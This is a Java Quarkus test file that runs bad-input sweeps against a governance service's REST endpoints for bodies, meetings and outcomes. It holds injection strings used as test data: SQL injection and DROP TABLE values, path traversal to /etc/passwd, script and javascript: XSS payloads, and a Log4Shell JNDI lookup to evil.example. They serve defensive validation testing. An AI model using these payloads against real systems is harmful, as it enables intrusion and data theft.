package io.entente.governance;

import io.entente.events.backlog.AllianceEvent.AllianceRegistered;
import io.entente.platform.testing.BadInput.Case;
import io.entente.platform.testing.BadInputSweep;
import io.entente.platform.testing.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import static io.entente.platform.testing.BadInput.common;
import static io.entente.platform.testing.BadInput.field;
import static io.entente.platform.testing.BadInput.str;
import static io.entente.platform.testing.BadInput.strs;
import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;

/** Bad input against the writes of the governance service (bodies, meetings); see {@link BadInputSweep}. */
@QuarkusTest
class BadInputTest extends BadInputSweep {

    static final String ALLIANCE = Fixtures.allianceKey("GBAD");
    static final String USER = "bad-input";
    static final String TOKEN = TestTokens.user(USER).roles("governance-ops").alliances(ALLIANCE).sign();
    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "G-BAD; DROP TABLE meeting; --",
            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "G-BAD\u0000");

    static final String BODY = Fixtures.body(ALLIANCE, "JDC", "MONTHLY");
    static final String MEETING = """
            {"bodyId":"{body}","title":"JDC December","startsAt":"2027-01-12T09:00:00+01:00",
             "timeZone":"Europe/Zurich","durationMinutes":120,"location":"Basel","callLink":"https://meet.example.com/x",
             "internalBriefing":"b"}""";

    static final String MEETING_UPDATE = """
            {"title":"JDC December","startsAt":"2027-01-12T09:00:00+01:00","timeZone":"Europe/Zurich",
             "durationMinutes":120,"location":"Basel","callLink":"https://meet.example.com/x","attendees":[]}""";
    static final String OUTCOME = """
            {"agendaItemId":"open","type":"ACTION_ITEM","actionTitle":"Send the memo","owner":"alex",
             "dueDate":"2027-02-01"}""";
    static final String BODY_UPDATE = """
            {"name":"JSC","quorum":3,"cadence":"QUARTERLY","decisionRights":"d","members":[]}""";

    static String bodyId;
    static String meetingId;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrap;

    @Inject
    EntityManager em;

    @BeforeEach
    void fixtures() {
        if (bodyId == null) {
            Fixtures.publish(bootstrap, "/entente/backlog-service", new AllianceRegistered(ALLIANCE, "Bad input",
                    "Partner Pharma", "CO_DEVELOPMENT", 1, "EXECUTION", 3, 3, "alex", LocalDate.of(2025, 1, 1)));
            bodyId = await().atMost(Duration.ofSeconds(30)).until(() -> {
                Response r = given().auth().oauth2(TOKEN).contentType("application/json")
                        .body(Fixtures.body(ALLIANCE, "JSC", "QUARTERLY")).post("/api/governance-bodies");
                return r.statusCode() == 201 ? Fixtures.id(r) : null;
            }, id -> id != null);
            meetingId = Fixtures.id(given().auth().oauth2(TOKEN).contentType("application/json")
                    .body(MEETING.replace("{body}", bodyId)).post("/api/meetings").then().statusCode(201)
                    .extract().response());
        }
    }

    @Override
    protected String token() {
        return TOKEN;
    }

    /**
     * Dates and times are ISO-8601 text only: Jackson would read a number (or a number in quotes) as epoch
     * seconds and an array as a date.
     */
    static List<Case> notIsoDates() {
        String[] notIso = {"1767225600", "1767225600.5", "-1", "0", "\"1767225600\"", "\" 1767225600 \"",
                "\"1767225600.000\"", "[2027,1,12,9,0]", "[2027,1,12]", "true", "{\"epochSecond\":1767225600}"};
        List<Case> all = new ArrayList<>();
        all.addAll(field("POST", "/api/meetings", MEETING, "startsAt", notIso));
        all.addAll(field("PUT", "/api/meetings/{meeting}", MEETING_UPDATE, "startsAt", notIso));
        all.addAll(field("POST", "/api/meetings/{meeting}/outcomes", OUTCOME, "dueDate", notIso));
        all.addAll(field("POST", "/api/meetings/{meeting}/outcomes", OUTCOME, "dueDate", "20270201",
                "\"20270201\"", "\"2027-02-01T00:00:00Z\""));
        return all;
    }

    @Override
    protected List<Case> cases() {
        List<Case> all = new ArrayList<>(notIsoDates());
        String bodies = "/api/governance-bodies";
        all.addAll(common("POST", bodies, BODY, "allianceId"));
        all.addAll(field("POST", bodies, BODY, "allianceId", null, "\"\"", "\"lower\"", "\"NOT-MINE\""));
        all.addAll(field("POST", bodies, BODY, "allianceId", INJECTIONS));
        all.addAll(field("POST", bodies, BODY, "type", null, "\"POLITBURO\"", "1"));
        all.addAll(field("POST", bodies, BODY, "quorum", null, "0", "51", "\"three\"", "2.5e9"));
        all.addAll(field("POST", bodies, BODY, "cadence", "\"FORTNIGHTLY\"", "[]"));
        all.addAll(field("POST", bodies, BODY, "name", str("n".repeat(201))));
        all.addAll(field("POST", bodies, BODY, "members", null, "\"everyone\"", "[null]", "[{}]",
                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"THEM\",\"role\":\"MEMBER\"}]",
                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"EMPEROR\"}]",
                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"MEMBER\",\"email\":\"not-an-email\"}]",
                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"MEMBER\",\"admin\":true}]"));

        String meetings = "/api/meetings";
        String meeting = MEETING;
        all.addAll(common("POST", meetings, meeting, "timeZone"));
        all.addAll(field("POST", meetings, meeting, "bodyId", null, "\"not-a-uuid\"", "7",
                "\"00000000-0000-0000-0000-000000000001\""));
        all.addAll(field("POST", meetings, meeting, "startsAt", null, "\"2027-01-12\"", "\"2027-01-12T25:00:00Z\"",
                "\"2027-02-30T09:00:00Z\"", "\"2027-01-12T09:00:00+25:00\"", "\"12.01.2027 09:00\"", "\"tomorrow\"",
                "\"2027-01-12T09:00:00[Europe/Zurich]\""));
        all.addAll(field("POST", meetings, meeting, "timeZone", null, "\"\"", "\"Mars/Olympus\"", "\"GMT+25\"",
                "\"Europe/Zurich; DROP TABLE meeting\"", "\"../../etc/localtime\"", "42", str("Z".repeat(65))));
        all.addAll(field("POST", meetings, meeting, "durationMinutes", "14", "601", "-60", "\"2h\""));
        all.addAll(field("POST", meetings, meeting, "callLink", "\"http://insecure.example.com\"",
                "\"javascript:alert(1)\"", "\"https://\""));
        all.addAll(field("POST", meetings, meeting, "internalBriefing", str("b".repeat(8001))));
        all.addAll(field("POST", meetings, meeting, "attendees", "\"all\"", "[null]", "[{}]"));

        String one = "/api/meetings/{meeting}";
        all.addAll(common("PUT", one, MEETING_UPDATE, "title"));
        all.addAll(field("PUT", one, MEETING_UPDATE, "startsAt", null, "\"2027-13-01T09:00:00Z\"",
                "\"2027-01-12T09:00:00\""));
        all.addAll(field("PUT", one, MEETING_UPDATE, "timeZone", "\"Atlantis/Capital\"", "\"\""));
        all.addAll(field("PUT", one, MEETING_UPDATE, "durationMinutes", null, "0", "10000"));
        all.addAll(field("PUT", one, MEETING_UPDATE, "status", "\"HELD\""));
        all.addAll(field("PUT", one, MEETING_UPDATE, "bodyId", "\"00000000-0000-0000-0000-000000000001\""));
        all.add(new Case("agenda as text", "PUT", one + "/agenda", "application/json", "\"talk about things\""));
        all.add(new Case("agenda malformed", "PUT", one + "/agenda", "application/json", "{\"items\":[{]}"));
        all.add(new Case("attendance malformed", "PUT", one + "/attendance", "application/json", "{\"attendance\":7}"));
        all.add(new Case("outcome empty", "POST", one + "/outcomes", "application/json", "{}"));
        all.add(new Case("rsvp empty", "PUT", one + "/rsvp", "application/json", "{}"));
        all.add(new Case("rsvp unknown answer", "PUT", one + "/rsvp", "application/json", "{\"rsvp\":\"MAYBE\"}"));
        all.add(new Case("rsvp on someone's behalf", "PUT", one + "/rsvp", "application/json",
                "{\"rsvp\":\"ACCEPTED\",\"user\":\"alex\"}"));
        all.add(new Case("outcome unknown type", "POST", one + "/outcomes", "application/json",
                "{\"type\":\"COUP\",\"text\":\"x\"}"));

        String body = "/api/governance-bodies/{body}";
        all.addAll(common("PUT", body, BODY_UPDATE, "name"));
        all.addAll(field("PUT", body, BODY_UPDATE, "quorum", null, "0", "999"));
        all.addAll(field("PUT", body, BODY_UPDATE, "cadence", null, "\"HOURLY\""));
        all.addAll(field("PUT", body, BODY_UPDATE, "allianceId", "\"ONC-HELIX\""));
        all.addAll(field("PUT", body, BODY_UPDATE, "version", "0"));
        return all;
    }

    @Override
    protected List<Long> stored() {
        List<String> sql = new ArrayList<>();
        for (String table : List.of("governance_body", "meeting", "action_item", "packet")) {
            sql.add("select count(*) from " + table);
        }
        sql.add("select count(*) from audit_log where actor = '" + USER + "'");
        sql.add("select coalesce(sum(version), 0) from governance_body");
        sql.add("select coalesce(sum(version), 0) from meeting");
        return sql.stream().map(this::count).toList();
    }

    long count(String sql) {
        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
    }

    @Override
    protected Response send(Case c) {
        String path = c.path().replace("{meeting}", meetingId).replace("{body}", bodyId);
        String text = c.body().replace("{body}", bodyId);
        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(text);
        if (c.method().equals("PUT") || path.endsWith("/outcomes")) {
            String readPath = path.startsWith("/api/meetings") ? "/api/meetings/" + meetingId : path;
            request = request.header("If-Match", given().auth().oauth2(TOKEN).get(readPath).header("ETag"));
        }
        return request.request(c.method(), path);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("notIsoDates")
    void datesAndTimesOnlyAsIsoText(Case c) {
        String field = c.name().substring(0, c.name().indexOf(" = "));
        send(c).then().statusCode(400).contentType("application/problem+json").body("errors.field", hasItem(field))
                .body("detail", containsString(field));
    }

    @Override
    protected List<String> badQueries() {
        return queries("/api/meetings", "limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password",
                "from=2027-02-30", "bodyId=not-a-uuid");
    }
}
